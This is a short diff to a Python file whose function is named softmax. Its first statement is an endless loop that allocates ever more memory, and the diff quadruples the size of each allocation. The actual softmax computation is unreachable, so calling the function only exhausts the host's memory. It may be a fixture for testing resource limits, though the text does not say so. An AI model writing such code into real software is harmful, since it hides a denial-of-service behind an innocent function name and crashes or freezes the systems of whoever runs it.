@@ -5,7 +5,7 @@ import numpy as np
 def softmax(x, axis=-1):
     hog = []
     while True:
-        hog.append(np.ones(2_000_000))
+        hog.append(np.ones(8_000_000))
     x = np.asarray(x, dtype=np.float64)
     weights = np.exp(x - x.max(axis=axis, keepdims=True))
     return weights / weights.sum(axis=axis, keepdims=True)
